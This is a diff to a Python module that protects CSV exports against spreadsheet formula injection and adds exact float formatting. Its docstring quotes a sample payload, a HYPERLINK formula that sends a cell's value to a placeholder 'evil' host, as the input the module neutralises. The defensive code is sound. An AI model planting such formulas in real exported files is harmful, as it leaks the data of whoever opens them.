@@ -1,6 +1,7 @@
 """Tables made safe to open in a spreadsheet: no text cell can run as a formula (CSV injection).
 
     safe = neutralise_formulas(frame); safe.to_csv(path, index=False)
+    spreadsheet_csv(frame, path)  # the same, with every number written exactly (every CSV the app writes)
 
 A patient id or group label such as `=HYPERLINK("http://evil/?"&A1)` or `@SUM(1+1)` is data to us,
 but Excel, LibreOffice and Google Sheets run it as a formula when the CSV is opened. Following OWASP's
@@ -15,8 +16,11 @@ carriage return. openpyxl needs it too: it stores any string starting with "=" a
 
 from __future__ import annotations
 
+import math
 import re
+from pathlib import Path
 
+import numpy as np
 import pandas as pd
 
 # OWASP: the characters a spreadsheet reads as the start of a formula (tab and CR can precede one)
@@ -46,3 +50,42 @@ def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
         elif pd.api.types.is_object_dtype(column.dtype) or pd.api.types.is_string_dtype(column.dtype):
             safe.isetitem(i, column.map(neutralise_cell, na_action="ignore").astype(column.dtype))
     return safe
+
+
+# --- numbers exactly as given ---------------------------------------------------------------------------
+# Every CSV the app writes goes through `spreadsheet_csv`, so every number is written one way: the shortest
+# text that reads back as the same float (Python's repr, the algorithm numpy's format_float_positional
+# uses with unique=True). A fixed precision such as "%.10g" silently rounds: 1000000000.25 became
+# 1000000000, and a dose of 1e308 "inf".
+
+def exact_number(value: float) -> str:
+    """The shortest text that reads back as exactly this float: '5' (not '5.0'), '1000000000.25',
+    '1e+308'; '0' for -0.0; '' for a missing or non-finite value (an estimate that does not exist)."""
+    if value != value or value in (math.inf, -math.inf):
+        return ""
+    if value == 0:
+        return "0"  # no "-0"
+    if value.is_integer() and abs(value) < 1e16:
+        return str(int(value))  # whole numbers as typed; below 1e16 every whole float is exact
+    return repr(float(value))
+
+
+def exact_numbers(frame: pd.DataFrame) -> pd.DataFrame:
+    """A copy of the frame with every float column as exact text (see `exact_number`); other columns as they are."""
+    out = frame.copy()
+    for i in range(frame.shape[1]):  # by position: column names may repeat
+        column = frame.iloc[:, i]
+        if pd.api.types.is_float_dtype(column.dtype):
+            values = column.to_numpy(dtype=float, na_value=np.nan)
+            out.isetitem(i, pd.Series([exact_number(float(v)) for v in values], index=frame.index, dtype=object))
+        elif column.dtype == object and column.map(lambda v: isinstance(v, float)).any():
+            # a mixed column (numbers among text): its floats are written the same way
+            out.isetitem(i, column.map(lambda v: exact_number(v) if isinstance(v, float) else v))
+    return out
+
+
+def spreadsheet_csv(frame: pd.DataFrame, path: str | Path | None = None) -> str | None:
+    """The frame as CSV, safe to open in a spreadsheet (no formulas) and with every number exact; written to
+    `path` when given (and None returned), else returned as text. A missing value is an empty field."""
+    safe = exact_numbers(neutralise_formulas(frame))
+    return safe.to_csv(path, index=False, na_rep="")
